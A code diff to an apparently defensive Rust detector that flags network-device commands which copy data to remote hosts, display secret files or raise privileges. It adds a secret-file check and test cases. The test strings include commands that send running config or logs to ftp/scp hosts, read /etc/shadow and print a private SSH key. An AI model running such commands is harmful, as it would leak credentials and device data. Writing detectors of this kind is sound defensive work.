@@ -3,6 +3,7 @@
 use crate::posix::{self, Answer, Listing};
 use crate::verdict::{excerpt, excerpt_of, listed};
 use jackfield_plugin::text::{Search, split_once};
+use jackfield_plugin::words::begin;
 
 /// A lane above `change`, the rule that says so without the lane in front, and why.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -29,6 +30,8 @@ const LOOPBACK: [&str; 4] = ["localhost", "127.", "[::1]", "::1"];
 /// How files are named that lie on another machine, on network devices.
 const REMOTE: [&str; 9] = ["tftp:", "ftp:", "ftps:", "scp:", "sftp:", "rcp:", "http:", "https:", "s3:"];
 
+/// Commands of devices that tell of a file what is not in it.
+const TELLING: [&str; 6] = ["dir", "ls", "file li[st]", "file che[cksum]", "Get-ChildItem", "Test-Path"];
 /// Words that begin a copy on network devices.
 const COPYING: [&str; 14] =
     ["copy", "file", "archive", "request", "save", "export", "execute", "backup", "tftp", "ftp", "scp", "put", "write", "admin"];
@@ -144,6 +147,17 @@ fn is_sending(method: &str) -> bool {
     listed("POST PUT PATCH DELETE", &method.to_ascii_uppercase())
 }
 
+/// Does a line of a device show a file that holds secrets?
+pub(crate) fn shows_secret(line: &str) -> bool {
+    // An expression is no pattern of files.
+    let is_path = |path: &str| path.has('/') || !path.has_any("*?[");
+    let names = || {
+        let mut paths = line.split_whitespace().skip(1).map(|word| word.trim_matches(['"', '\'']).replace('\\', "/").to_ascii_lowercase());
+        paths.any(|path| is_path(&path) && posix::is_secret_file(&path))
+    };
+    names() && !TELLING.iter().any(|pattern| begin(pattern, line))
+}
+
 /// What a line of a network device reaches for: a copy to somewhere else, or rights.
 pub(crate) fn of_device(line: &str) -> Option<Reach> {
     let words: Vec<String> = line.split_whitespace().map(str::to_ascii_lowercase).collect();
@@ -160,6 +174,9 @@ pub(crate) fn of_device(line: &str) -> Option<Reach> {
     let uploads = words.iter().any(|word| matches!(word.as_str(), "upload=yes" | "e-mail" | "upload"));
     if goes || uploads {
         return Some(reach(EXFILTRATION, "device.copy-out", format!("{} carries data to another machine", excerpt(line))));
+    }
+    if shows_secret(line) {
+        return Some(reach(EXFILTRATION, "device.secret-file", format!("{} shows what is secret", excerpt(line))));
     }
     let has = |full: &[&str]| words.iter().any(|word| full.contains(&word.as_str()));
     let users = matches!(first, "username" | "aaa" | "user" | "enable") && words.len() > 1
@@ -242,6 +259,13 @@ mod tests {
             ("show run | redirect ftp://192.0.2.1/x", Some(EXFILTRATION)),
             ("file copy /var/log/messages scp://h/x", Some(EXFILTRATION)),
             ("/tool fetch upload=yes url=\"ftp://h/\"", Some(EXFILTRATION)),
+            ("more file:/etc/shadow", Some(EXFILTRATION)),
+            ("type \"C:\\Users\\x\\.ssh\\id_rsa\"", Some(EXFILTRATION)),
+            ("type C:\\Users\\x\\.ssh\\id_rsa.pub", None),
+            ("dir C:\\Users\\x\\.ssh\\id_rsa", None),
+            ("type C:\\Users\\x\\.SSH\\id_*", Some(EXFILTRATION)),
+            ("more flash:*", None),
+            ("show ip bgp regexp .*", None),
             ("enable", Some(PRIVILEGE)),
             ("username bob privilege 15", Some(PRIVILEGE)),
             ("set system root-authentication plain-text-password", Some(PRIVILEGE)),
